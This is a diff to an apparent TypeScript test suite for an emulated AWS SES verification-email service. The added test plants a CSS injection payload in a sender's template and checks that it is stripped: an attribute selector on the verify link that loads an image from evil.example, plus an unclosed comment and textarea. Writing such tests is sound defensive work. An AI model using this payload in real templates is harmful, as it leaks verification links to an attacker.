@@ -7,6 +7,7 @@ import {
   PutConfigurationSetSendingOptionsCommand,
   PutEmailIdentityMailFromAttributesCommand,
   SendCustomVerificationEmailCommand,
+  UpdateCustomVerificationEmailTemplateCommand,
 } from "@aws-sdk/client-sesv2";
 import { minuteMs } from "#platform/clock.ts";
 import { type Engine, engines } from "#test/support/engines.ts";
@@ -17,20 +18,20 @@ import { World } from "#test/support/world.ts";
 const TemplateName = "welcome";
 const EmailAddress = "bob@customer.example";
 
+const template = {
+  TemplateName,
+  FromEmailAddress: "hello@shop.test",
+  TemplateSubject: "Welcome to the shop",
+  TemplateContent: '<p>Welcome! <a href="https://shop.example/">The shop</a></p>',
+  SuccessRedirectionURL: "https://shop.example/welcome",
+  FailureRedirectionURL: "https://shop.example/sorry",
+};
+
 /** A sender whose template has a link of its own, and a set that tracks. */
 async function newScene(engine: Engine): Promise<World> {
   const world = await World.start(engine);
   await verifiedDomain(world, "shop.test");
-  await world.ses.send(
-    new CreateCustomVerificationEmailTemplateCommand({
-      TemplateName,
-      FromEmailAddress: "hello@shop.test",
-      TemplateSubject: "Welcome to the shop",
-      TemplateContent: '<p>Welcome! <a href="https://shop.example/">The shop</a></p>',
-      SuccessRedirectionURL: "https://shop.example/welcome",
-      FailureRedirectionURL: "https://shop.example/sorry",
-    }),
-  );
+  await world.ses.send(new CreateCustomVerificationEmailTemplateCommand(template));
   await world.ses.send(
     new CreateConfigurationSetCommand({
       ConfigurationSetName: "proofs",
@@ -71,6 +72,19 @@ for (const engine of engines) {
       assert.doesNotMatch(html, /ses:/);
       const { configuration_set: set, events } = await shown(world, id);
       assert.deepEqual([set, events.map(({ type }) => type).toSorted()], ["proofs", ["Delivery", "Send"]]);
+    });
+
+    test("no style sheet of the sender's reads out the link that proves, and nothing left open hides it", async () => {
+      await using world = await newScene(engine);
+      const TemplateContent =
+        '<style>a[href*="verify/a"]{background:url(https://evil.example/a)}</style><p>Welcome!<!-- <textarea>';
+      await world.ses.send(
+        new UpdateCustomVerificationEmailTemplateCommand({ ...template, TemplateContent }),
+      );
+      await ask(world);
+      const { html } = await world.inbox(EmailAddress);
+      assert.doesNotMatch(html, /evil|<style|<!--|<textarea/);
+      assert.match(html, /^<p>Welcome!<\/p>\n<hr>\n<p>To confirm that .* href="http:[^"]+\/verify\/[^"]+"/);
     });
 
     test("a set that is paused, or not there, lets nothing out and leaves nothing behind", async () => {
